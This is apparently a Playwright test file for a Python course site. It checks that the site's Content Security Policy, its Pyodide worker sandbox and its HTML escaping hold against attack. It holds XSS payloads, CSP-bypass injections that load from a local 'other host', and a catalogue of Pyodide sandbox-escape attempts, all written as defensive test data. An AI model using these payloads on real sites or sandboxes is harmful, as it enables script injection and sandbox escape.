"""The pages' policy holds and every page works under it; a reader's program leaves its worker by no way; what comes from a
program or an address is never read as HTML.

A program may come with a link, so it is taken for an attacker's. It tries two hosts: the site's own, which the policy would let
it reach, and another, which counts who comes.
"""

import base64
import contextlib
import json
import re
import socket
import zlib
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from .conftest import OpenPage, Watch
from .pages import ALL, LESSONS
from .server import Server
from .waiting import until

RECORD = """
  window.violations = [];
  window.planted = 0;
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
    violations.push(`${effectiveDirective} ${blockedURI} ${sample}`.trim()));
"""
IMAGE = "<img src=x onerror=planted=1><script>planted=1</script>"


def recording(open_page: OpenPage, **options: Any) -> Page:
    page = open_page(**options)
    page.add_init_script(RECORD)
    return page


@pytest.fixture
def reader(open_page: OpenPage) -> Page:
    """A page that keeps what its policy blocks in ``violations``."""
    return recording(open_page, service_workers="block")


class Elsewhere:
    """Another host: a port of this machine. A browser's tools tell of requests that it blocks too, so this one listens."""

    def __init__(self) -> None:
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.setblocking(False)
        self.port = self.listener.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"

    def asked(self) -> list[bytes]:
        """What was sent here since this was last asked for. A browser may connect ahead of what it then blocks, and send nothing."""
        found = []
        with contextlib.suppress(BlockingIOError):
            while True:  # the system keeps connections, and what they sent, until they are taken
                connection, _ = self.listener.accept()
                with connection:
                    connection.settimeout(1)
                    with contextlib.suppress(TimeoutError, ConnectionError):
                        found.append(connection.recv(1000))
        return [sent for sent in found if sent]


@pytest.fixture
def elsewhere(watch: Watch) -> Iterator[Elsewhere]:
    host = Elsewhere()
    with contextlib.closing(host.listener):
        yield host
        assert host.asked() == []
    own = re.compile(rf"(http|ws)://127\.0\.0\.1:{host.port}\b")
    watch.elsewhere[:] = [address for address in watch.elsewhere if not own.match(address)]


def test_the_other_host_knows_who_asks(elsewhere: Elsewhere) -> None:
    assert elsewhere.asked() == []
    with socket.create_connection(("127.0.0.1", elsewhere.port), 5) as connection:
        connection.sendall(b"GET /")
        assert elsewhere.asked() == [b"GET /"]


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("violations")
    return found


def test_every_page_works_under_its_policy_in_both_schemes(reader: Page) -> None:
    seen = dict.fromkeys(["main svg", "main math", ".jp-Cell", ".doc"], 0)
    schemes = [("light", "default"), ("dark", "slate")]
    for path in ALL:
        reader.goto(path)
        for scheme, shown in schemes:
            reader.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
            expect(reader.locator("body")).to_have_attribute("data-md-color-scheme", shown)
        schemes.reverse()  # every second page is loaded in the dark
        found = reader.evaluate(
            """(kinds) => ({
              blocked: violations,
              policies: document.querySelectorAll("meta[http-equiv=Content-Security-Policy]").length,
              kinds: kinds.filter((kind) => document.querySelector(kind)),
            })""",
            list(seen),
        )
        assert found["blocked"] == [], path
        assert found["policies"] == 1, path
        for kind in found["kinds"]:
            seen[kind] += 1
    assert all(seen.values()), seen


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_search_and_the_page_for_a_missing_one_work_under_the_policy(
    open_page: OpenPage, watch: Watch, scheme: str
) -> None:
    page = recording(open_page, scheme=scheme)
    page.goto("")
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type("attention")
    expect(page.locator(".md-search-result__item").first).to_be_visible()
    assert violations(page) == []
    watch.expect(r"404 \(Not Found\)")
    page.goto("none/")
    expect(page.get_by_role("heading", level=1)).to_have_text("There is no such page")
    assert violations(page) == []


PLANTS = {
    "script-src-elem inline": "const s = make('script'); s.textContent = 'planted = 1'; document.body.append(s)",
    "script-src-attr inline": "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"planted = 1\">')",
    "script-src-elem inline ": "const a = make('a'); a.href = 'javascript:planted=1'; document.body.append(a); a.click()",
    "script-src-elem data": "make('script', { src: 'data:text/javascript,planted=1' })",
    "script-src-elem blob": "make('script', { src: URL.createObjectURL(new Blob(['planted = 1'])) })",
    "script-src-elem HOST": "make('script', { src: HOST + '/x.js' })",
    "style-src-elem inline": "const s = make('style'); s.textContent = 'p { color: red }'; document.head.append(s)",
    "style-src-elem HOST": "make('link', { rel: 'stylesheet', href: HOST + '/x.css' })",
    "style-src-attr inline": "document.body.insertAdjacentHTML('beforeend', '<p style=\"color: red\">x</p>')",
    "img-src HOST": "make('img', { src: HOST + '/x.png' })",
    "media-src HOST": "make('video', { src: HOST + '/x.mp4' })",
    "font-src HOST": "new FontFace('x', `url(${HOST}/x.woff2)`).load().catch(() => {})",
    "connect-src HOST": "fetch(HOST).catch(() => {})",
    "connect-src HOST/x": "const r = new XMLHttpRequest(); r.open('GET', HOST + '/x'); r.send()",
    "connect-src ws://127.0.0.1": "new WebSocket(HOST.replace('http', 'ws'))",
    "connect-src HOST/beacon": "navigator.sendBeacon(HOST + '/beacon', 'x')",
    "connect-src HOST/events": "new EventSource(HOST + '/events')",
    "worker-src data": "try { new Worker('data:text/javascript,0') } catch {}",
    "frame-src HOST": "make('iframe', { src: HOST })",
    "object-src HOST": "make('object', { data: HOST + '/x' })",
    "base-uri HOST": "make('base', { href: HOST })",
    "form-action HOST": "make('form', { action: HOST, method: 'post' }).submit()",
}  # fmt: skip


@pytest.mark.parametrize("blocked", PLANTS)
def test_what_is_planted_in_a_page_is_blocked(
    reader: Page, watch: Watch, elsewhere: Elsewhere, blocked: str
) -> None:
    watch.expect("Content Security Policy|Refused to|violates the following")
    reader.goto("how-to-use/")
    reader.evaluate(
        f"""(HOST) => {{
          const make = (name, attributes = {{}}) => {{
            const made = document.createElement(name);
            for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
            if (name !== "a") (["base", "link"].includes(name) ? document.head : document.body).append(made);
            return made;
          }};
          {PLANTS[blocked]};
        }}""",
        elsewhere.url,
    )
    directive, source = blocked.strip().replace("HOST", elsewhere.url).split(" ")
    until(reader, "violations.length > 0")
    assert violations(reader)[0].startswith(f"{directive} {source}")
    assert reader.evaluate("planted") == 0


def test_javascript_cannot_be_made_from_text(reader: Page, watch: Watch) -> None:
    watch.expect("Content Security Policy|unsafe-eval")
    reader.goto("how-to-use/")
    # In a timer: what the test's own connection evaluates may do it.
    reader.evaluate(
        """() => void setTimeout(() => {
          window.made = [];
          for (const way of [() => eval("1"), () => new Function("1"), () => setTimeout("planted = 1")]) {
            try { made.push(typeof way()); } catch (error) { made.push(error.name); }
          }
        })"""
    )
    until(reader, "window.made")
    assert reader.evaluate("made.slice(0, 2)") == ["EvalError", "EvalError"]
    until(reader, "violations.length === 3")
    assert reader.evaluate("planted") == 0


# ---- A program in the worker ----

RUN = """
  async ([code, limit]) => {
    const folder = new URL(document.querySelector("meta[name=course-live]").content, document.baseURI).href;
    const { Runner } = await import(folder + "runner.js");
    window.runner ??= new Runner(folder);
    let output = "";
    const result = await runner.run({ code, name: "attack.py", marker: "", limit }, { onoutput: (text) => (output += text) });
    return { output, ...result };
  }
"""

# Each way ends in an error before anything is asked for. What only promises is told apart by what the hosts were asked.
REFUSED = """
import asyncio, socket, urllib.request

WAYS = {
    "js.fetch": lambda: __import__("js").fetch(URL),
    "js.XMLHttpRequest": lambda: __import__("js").XMLHttpRequest.new(),
    "js.WebSocket": lambda: __import__("js").WebSocket.new(URL.replace("http", "ws")),
    "js.WebSocketStream": lambda: __import__("js").WebSocketStream.new(URL.replace("http", "ws")),
    "js.EventSource": lambda: __import__("js").EventSource.new(URL),
    "js.importScripts": lambda: __import__("js").importScripts(URL),
    "js.Worker": lambda: __import__("js").Worker.new(URL),
    "js.BroadcastChannel": lambda: __import__("js").BroadcastChannel.new("x"),
    "js.caches": lambda: __import__("js").caches.open("x"),
    "js.indexedDB": lambda: __import__("js").indexedDB.open("x"),
    "js.navigator": lambda: __import__("js").navigator.storage,
    "js.postMessage": lambda: __import__("js").postMessage("x"),
    "js.self": lambda: __import__("js").self,
    "js.globalThis": lambda: __import__("js").globalThis,
    "js.Function": lambda: __import__("js").Function.new("return 1"),
    "js.eval": lambda: __import__("js").eval("1"),
    "js.document": lambda: __import__("js").document,
    "run_js": lambda: __import__("pyodide.code").code.run_js("fetch(" + repr(URL) + ")"),
    "Function of a function": lambda: __import__("js").setTimeout.constructor("return fetch(" + repr(URL) + ")")(),
    "Function of an object": lambda: __import__("pyodide_js").constructor.constructor("return this")(),
    "AsyncFunction": lambda: __import__("pyodide_js").loadPackage.constructor("return import(" + repr(URL) + ")")(),
    "open_url": lambda: __import__("pyodide.http").http.open_url(URL),
    "pyfetch": lambda: __import__("pyodide.http").http.pyfetch(URL).send(None),
    "urllib": lambda: urllib.request.urlopen(URL, timeout=1),
    "an imported module": lambda: __import__("js").import_(URL),
    "micropip": lambda: __import__("micropip"),
}
for name, way in WAYS.items():
    try:
        way()
    except BaseException as error:
        print("refused:", name)
    else:
        print("LET THROUGH:", name)
"""

PROMISED = """
import pyodide_js, socket
for way in (
    lambda: pyodide_js.loadPackage(URL + ".whl"),
    lambda: pyodide_js.loadPackage("micropip"),
    lambda: pyodide_js.loadPackagesFromImports("import scipy"),
    lambda: pyodide_js._api.loadBinaryFile(URL),
    lambda: pyodide_js._api.loadDynlib(URL),
    lambda: pyodide_js._module.asyncLoad(URL),
    lambda: pyodide_js._module.readAsync(URL),
    lambda: __import__("js").setTimeout("fetch(" + repr(URL) + ")", 0),
    lambda: pyodide_js.mountNativeFS("/x", None),
    lambda: pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, {}, "/tmp"),
    lambda: pyodide_js.FS.createPreloadedFile("/", "x.txt", URL, True, False),
    lambda: socket.create_connection(("127.0.0.1", PORT), 1).send(b"GET /course/planted HTTP/1.0\\r\\n\\r\\n"),
):
    try:
        way()
    except BaseException:
        pass
print("tried")
"""

# What Python itself does not survive: its file system fails.
FATAL = """
import pyodide_js
pyodide_js.FS.createLazyFile("/", "lazy", URL, True, False)
open("/lazy").read()
"""

# All that can be reached from what Python is given of JavaScript, by its properties and those of its prototypes.
REACHED = """
import js, pyodide_js
from pyodide.ffi import JsProxy, to_js

FORBIDDEN = ("fetch XMLHttpRequest WebSocket WebSocketStream WebTransport EventSource BroadcastChannel Worker SharedWorker "
             "importScripts postMessage CacheStorage IDBFactory StorageManager Navigator WorkerNavigator open "
             "RTCPeerConnection").split()
seen, found, todo = {}, set(), [("js", js.setTimeout), ("pyodide_js", pyodide_js)]
count = 0
while todo and count < 4000:
    path, thing = todo.pop(0)
    if thing.js_id in seen or path.count(".") > 6:
        continue
    seen[thing.js_id] = thing
    count += 1
    try:
        kind = str(thing)
    except BaseException:
        kind = ""
    for name in FORBIDDEN:
        if kind.startswith(f"function {name}(") and "[native code]" in kind and not path.endswith(".open"):
            found.add(f"{path} is {name}")
    if kind.endswith("Scope]"):
        found.add(f"{path} is {kind}")
    for name in dir(thing):
        if name.startswith("__") or name.isdigit():
            continue
        try:
            value = getattr(thing, name)
        except BaseException:
            continue
        if isinstance(value, JsProxy):
            todo.append((f"{path}.{name}", value))
print("reached", count > 100)
print(sorted(found))
"""


@pytest.fixture
def attacked(open_page: OpenPage, watch: Watch) -> Iterator[Page]:
    """A page under attack by a program: afterwards nothing is stored, and no host was asked for anything."""
    page = recording(open_page, service_workers="block")
    page.goto("how-to-use/")
    yield page
    assert page.evaluate("caches.keys()") == []
    assert page.evaluate("indexedDB.databases()") == []
    assert page.evaluate("planted") == 0


def run(page: Page, code: str, limit: int = 60) -> dict[str, Any]:
    result: dict[str, Any] = page.evaluate(RUN, [code, limit])
    return result


@pytest.mark.parametrize("own", [True, False])
def test_a_program_asks_no_host_for_anything(
    attacked: Page, server: Server, site_url: str, watch: Watch, elsewhere: Elsewhere, own: bool
) -> None:
    watch.expect("Content Security Policy|unsafe-eval")
    watch.expect(
        "fatal error|pyodide.asm|_future_helper|Cannot read properties"
    )  # what it breaks in its worker
    url = f"{site_url if own else elsewhere.url + '/'}planted"
    preface = f"URL = {url!r}\nPORT = {server.server_port if own else elsewhere.port}\n"
    said = run(attacked, preface + REFUSED)
    lines = said["output"].splitlines()
    assert said["error"] is None and lines, said
    assert [line for line in lines if not line.startswith("refused: ")] == []
    assert run(attacked, preface + PROMISED)["output"].endswith("tried\n")
    assert run(attacked, preface + FATAL)["error"]
    assert run(attacked, "print(1 + 1)")["output"] == "2\n"  # it goes on, and what was promised had its time
    assert not [path for path in server.asked if "planted" in path]
    assert watch.elsewhere == []


def test_nothing_that_a_program_reaches_leads_out_of_the_worker(attacked: Page) -> None:
    said = run(attacked, REACHED, limit=120)
    assert said["output"].splitlines() == ["reached True", "[]"], said


# ---- What is shown ----


def fragment(panel: str, text: str) -> str:
    """A link to an edit, made without the site's own script: the text deflated, in URL-safe base64."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(text.encode()) + packer.flush()
    return f"#edit={panel}:{base64.urlsafe_b64encode(packed).decode().rstrip('=')}"


FRAGMENTS = {
    "a program of HTML": fragment("17.1", f"{IMAGE}\n</textarea></pre>{IMAGE}\nprint('x')"),
    "a panel of HTML": fragment(IMAGE, "print('x')"),
    "a panel of HTML, escaped": fragment("%3Cimg%20src%3Dx%20onerror%3Dplanted%3D1%3E", "print('x')"),
    "HTML in place of an edit": f"#edit={IMAGE}",
    "HTML behind an edit": fragment("17.1", "print('x')") + IMAGE,
    "HTML as an anchor": f"#{IMAGE}",
    "a selector": "#edit=17.1\"],[onerror='planted=1",
    "a script": "#javascript:planted=1",
}


@pytest.mark.parametrize("name", FRAGMENTS)
def test_nothing_from_an_address_becomes_html_or_runs_by_itself(
    reader: Page, server: Server, name: str
) -> None:
    reader.goto(LESSONS[0] + FRAGMENTS[name])
    if FRAGMENTS[name].startswith("#edit="):
        expect(reader.locator(".live__notice, .live__status:not(:empty)").first).to_be_visible()
    else:
        reader.wait_for_load_state("networkidle")
    assert reader.locator("img[src=x], [onerror]").count() == 0
    assert violations(reader) == []
    assert reader.evaluate("planted") == 0
    runtime = {address.rsplit("/", 1)[-1] for address in requests_of(reader)}
    assert not runtime & {"worker.js", "pyodide.mjs", "pyodide.asm.js"}


def requests_of(page: Page) -> list[str]:
    found: list[str] = page.evaluate("performance.getEntriesByType('resource').map(({ name }) => name)")
    return found


def test_nothing_that_a_program_says_becomes_html(reader: Page) -> None:
    text = f"</code></pre>{IMAGE}"
    program = "\n".join(
        [
            "# panel 17.1: x",
            "from nextword.checks import check",
            f"print({text!r})",
            f"check({text!r}, {text!r}, {text + 'x'!r})",
            f"raise ValueError({text!r})",
        ]
    )
    reader.goto(LESSONS[0] + fragment("17.1", program))
    bar = reader.locator('.live[data-panel="17.1"]')
    expect(bar.locator(".live__status")).to_contain_text("link")
    bar.locator(".live__run").click()
    panel = reader.locator("section.panel", has=bar)
    expect(panel).to_contain_text("ValueError")
    assert panel.inner_text().count("onerror=planted=1") >= 4
    assert reader.locator("img[src=x], [onerror]").count() == 0
    assert violations(reader) == []
    assert reader.evaluate("planted") == 0


FORGED = [
    {"type": "output", "id": 1, "text": IMAGE},
    {"type": "output", "id": 1, "text": {"toString": IMAGE}},
    {"type": "output", "id": 1, "text": "x" * 1_000_000},
    {"type": "progress", "loaded": IMAGE, "total": IMAGE},
    {"type": IMAGE, "id": IMAGE},
    {"type": "output", "id": 99, "text": "of no run"},
    IMAGE,
    None,
    [1, 2],
    {
        "type": "done",
        "id": 1,
        "cut": IMAGE,
        "seconds": IMAGE,
        "result": json.dumps(
            {
                "checks": [
                    {"claim": IMAGE, "held": IMAGE, "got": [IMAGE], "expected": {"x": IMAGE}},
                    IMAGE,
                    *({"claim": "x", "held": True} for _ in range(5000)),
                ],
                "error": {"text": IMAGE + "y" * 100_000, "line": IMAGE},
                "report": {"html": IMAGE},
            }
        ),
    },
]


def test_forged_messages_are_data(reader: Page) -> None:
    """Whoever spoke for the worker could still only say text, and not more than a page can show."""
    reader.goto(LESSONS[0])
    reader.evaluate(
        """(forged) => {
          window.Worker = class extends EventTarget {
            postMessage({ type, id }) {
              if (type !== "run") return;
              const say = (data) => this.dispatchEvent(new MessageEvent("message", { data }));
              setTimeout(() => { say({ type: "running", id }); forged.forEach(say); });
            }
            terminate() {}
          };
        }""",
        FORGED,
    )
    bar = reader.locator('.live[data-panel="17.1"]')
    bar.locator(".live__run").click()
    panel = reader.locator("section.panel", has=bar)
    expect(panel).to_contain_text("fails: <img src=x")
    assert reader.locator("img[src=x], [onerror]").count() == 0
    assert "of no run" not in panel.inner_text()
    assert len(panel.inner_text()) < 300_000
    assert panel.locator(".claim").count() <= 1100
    assert violations(reader) == []
    assert reader.evaluate("planted") == 0
